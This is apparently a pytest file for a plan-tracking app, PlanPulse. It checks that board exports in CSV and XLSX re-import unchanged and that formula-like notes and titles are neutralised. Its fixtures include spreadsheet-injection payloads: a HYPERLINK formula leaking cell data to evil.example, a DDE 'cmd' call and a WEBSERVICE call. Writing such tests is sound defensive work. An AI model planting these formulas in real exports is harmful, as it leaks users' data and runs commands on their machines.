"""Exporting a plan for the board and reading the export back: nothing changes."""

from __future__ import annotations

import csv
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.app import PlanPulse
from bot.domain.model import Source
from storage.importer import import_plan
from storage.models import ActionRow, MilestoneRow, PlanRow
from storage.repositories import UpdateRepository
from tests.conftest import EXAMPLES, running_pulse

NOW = datetime(2018, 5, 30, 9, 0, tzinfo=UTC)
WIRRAL = EXAMPLES / "wirral"


@pytest.fixture
async def pulse(db_url: str, tmp_path: Path) -> AsyncIterator[PlanPulse]:
    async with running_pulse(db_url, tmp_path, lambda: NOW) as app:
        await import_plan(
            app.sessions,
            WIRRAL / "plan.csv",
            now=NOW,
            plan_key="wirral",
            people_path=WIRRAL / "people.csv",
            networks_path=WIRRAL / "networks.csv",
            ratings_as_of=date(2018, 4, 16),
        )
        async with app.sessions() as session, session.begin():
            milestone_id = await session.scalar(
                select(MilestoneRow.id).where(MilestoneRow.ref == "1.1-1")
            )
            assert milestone_id is not None
            await UpdateRepository(session).add(
                milestone_id=milestone_id,
                rating=2,
                note="Agreed, with one action left; “quotes”",
                revised_due=date(2018, 7, 31),
                needs_support=True,
                source=Source.EMAIL,
                given_at=NOW,
                recorded_at=NOW,
            )
        yield app


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_export_carries_latest_progress_and_reimports_without_change(
    pulse: PlanPulse, tmp_path: Path, fmt: str
) -> None:
    """The export has one row per milestone in the plan's own headings with the latest
    rating, note, date, revised date, support ask and status, and importing it back changes
    nothing at all."""
    before = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
    path = await pulse.export(
        "wirral", fmt=fmt, as_of=date(2018, 6, 1), output=tmp_path / f"board.{fmt}"
    )
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            table = [dict(r) for r in csv.DictReader(handle)]
    else:
        sheet = load_workbook(path).active
        assert sheet is not None
        values = [
            [c if c is not None else "" for c in r] for r in sheet.iter_rows(values_only=True)
        ]
        table = [dict(zip(values[0], map(str, r), strict=True)) for r in values[1:]]
    assert len(table) == 77
    assert list(table[0])[:8] == [
        "Priority",
        "Ref",
        "Key actions",
        "Lead(s)",
        "Timescales",
        "Milestones",
        "Progress 1 - 4",
        "Network(s)",
    ]
    first = table[0]
    assert first["Progress 1 - 4"] == "2"
    assert first["Notes"] == "Agreed, with one action left; “quotes”"
    assert first["Last updated"] == "30/05/2018"
    assert first["Revised date"] == "31/07/2018"
    assert first["Needs support"] == "yes"
    assert table[1]["Revised date"] == table[1]["Needs support"] == ""
    assert first["Status"] == "overdue by 1 days"
    report = await import_plan(pulse.sessions, path, now=NOW, plan_key="wirral")
    assert not [w for w in report.warnings if "not recognised" in w.reason]
    assert report.actions_added == report.actions_changed == report.actions_retired == 0
    assert report.milestones_added == report.milestones_changed == 0
    assert report.milestones_retired == 0
    assert report.ratings_recorded == 0
    after = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
    assert [line.status for line in after] == [line.status for line in before]


HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&C2,"Details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3 and more",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+twice quoted",
)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_hostile_notes_export_as_text_and_reimport_without_change(
    pulse: PlanPulse, tmp_path: Path, fmt: str
) -> None:
    """Notes, titles and a plan title that a spreadsheet would run as formulas are written as
    plain text (XLSX cells typed as text, CSV cells escaped with a quote), and importing the
    export records nothing and changes nothing."""
    async with pulse.sessions() as session, session.begin():
        ids = (
            await session.scalars(select(MilestoneRow.id).order_by(MilestoneRow.id).limit(8))
        ).all()
        for milestone_id, note in zip(ids[1:], HOSTILE, strict=True):
            await UpdateRepository(session).add(
                milestone_id=milestone_id,
                rating=3,
                note=note,
                source=Source.EMAIL,
                given_at=NOW,
                recorded_at=NOW,
            )
        plan = await session.scalar(select(PlanRow).where(PlanRow.key == "wirral"))
        assert plan is not None
        plan.title = "=1+1 Wirral"
        action = await session.scalar(select(ActionRow).where(ActionRow.ref == "2.1"))
        assert action is not None
        action.title = '=WEBSERVICE("http://evil.example")'
    before = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
    path = await pulse.export(
        "wirral", fmt=fmt, as_of=date(2018, 6, 1), output=tmp_path / f"board.{fmt}"
    )
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [c for row in csv.reader(handle) for c in row]
        assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
        assert "'=cmd|' /C calc'!A0" in cells
        assert "'''+twice quoted" in cells
    else:
        with ZipFile(path) as archive:
            assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
        sheet = load_workbook(path).active
        assert sheet is not None
        typed = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
        assert all(kind == "s" for kind in typed.values())
        assert set(HOSTILE) <= set(typed)
    report = await import_plan(pulse.sessions, path, now=NOW, plan_key="wirral")
    assert report.actions_changed == report.milestones_changed == 0
    assert report.ratings_recorded == 0
    after = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
    assert [line.status for line in after] == [line.status for line in before]
    assert {line.status.note for line in after} >= set(HOSTILE)
    tracked = await pulse.tracked("wirral")
    assert tracked.plan.title == "=1+1 Wirral"
    assert {a.title for a in tracked.actions if a.ref == "2.1"} == {
        '=WEBSERVICE("http://evil.example")'
    }
